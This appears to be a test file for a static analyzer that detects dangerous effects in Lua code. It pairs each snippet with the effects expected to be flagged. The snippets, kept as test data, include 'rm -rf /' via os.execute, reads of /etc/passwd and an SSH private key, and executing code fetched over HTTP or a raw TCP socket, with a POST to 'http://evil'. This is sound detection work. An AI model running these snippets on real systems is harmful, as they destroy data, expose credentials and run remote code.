import { checkCases } from "../check_cases_test.ts";

// The source, then what it would do, a line each. Cases without lines are look-alikes that must give nothing.
checkCases("lua", [
  ['os.execute("rm -rf /")', "sh: rm -rf /"],
  ['os.execute "rm -rf /"', "sh: rm -rf /"],
  ['local c = "rm " .. "-rf /"; os.execute(c)', "sh: rm -rf /"],
  ['local f = io.open("/etc/passwd", "r"); print(f:read("*a")); f:close()', "read /etc/passwd"],
  [
    'io.popen("ls"):read("*a"); local p = io.popen("sh", "w") p:write("rm -rf /")',
    "sh: ls",
    "sh: sh << rm -rf /",
  ],
  ['os.remove("/x") os.rename("/a", "/b")', "delete /x", "read* /a", "delete* /a", "write /b", "copy /a /b"],
  ["load(\"os.execute('rm -rf /')\")()", "code: os.execute('rm -rf /')", "sh: rm -rf /"],
  ['loadstring(require("socket.http").request("http://x/y"))()', "connect http://x/y", "opaque download"],
  ['_G["os"]["exec".."ute"](string.char(114,109))', "sh: rm"],
  ['for _, f in ipairs({"/a", "/b"}) do os.remove(f) end', "delete /a", "delete /b"],
  ['function go(c) os.execute(c) end\ngo("rm -rf /")', "sh: rm -rf /"],
  [
    'if x then os.execute("a") elseif y then os.execute("b") else os.execute("c") end',
    "sh: a",
    "sh: b",
    "sh: c",
  ],
  ['-- os.execute("x")\n--[[ os.execute("y") ]]\nprint("os.execute(\'z\')")'],
  ['local t = {cmd = "rm -rf /", ["x"] = 1, "pos"}\nos.execute(t.cmd)', "sh: rm -rf /"],
  [
    'for i = 1, 3 do os.remove("/t" .. i) end while true do break end repeat os.remove("/q") until x',
    "delete /t1",
    "delete /t2",
    "delete /t3",
    "delete /q",
  ],
  [
    'local http, a = require("socket.http"), 1\nhttp.request{ url = "http://evil", method = "POST" }\nos.execute(("%s -rf /"):format("rm"))',
    "connect! http://evil",
    "sh: rm -rf /",
  ],
  ['local f = assert(io.open(os.getenv("HOME") .. "/.ssh/id_rsa"))', "read /home/u/.ssh/id_rsa"],
  ["local s = \"os.execute('x')\" print(#s, s:upper())"],
  ['local x = os.getenv("HOME") or "/root"; os.remove(x .. "/.bashrc")', "delete /home/u/.bashrc"],
  [
    'local t = {} t[#t+1] = "rm" t[#t+1] = "-rf" os.execute(table.concat({"rm", "-rf", "/"}, " "))',
    "sh: rm -rf /",
  ],
  ["local function f(...) return ... end f(1) do local y = 2 end goto done ::done::"],
  [
    'pcall(os.execute, "rm -rf /") ; assert(loadstring("os.remove(\'/a\')"))()',
    "sh: rm -rf /",
    "code: os.remove('/a')",
    "delete /a",
  ],
  [
    'local s = require("socket").tcp() s:connect("10.0.0.1", 99) s:send("x") local c = s:receive() os.execute(c)',
    "connect! tcp://10.0.0.1:99",
    "sh: ?",
    "opaque download",
  ],
  [
    'os.execute(("rm -rf /x"):gsub("x", "y")) os.execute(string.reverse("sl")) os.execute(([[id]]))',
    "sh: rm -rf /y",
    "sh: ls",
    "sh: id",
  ],
]);
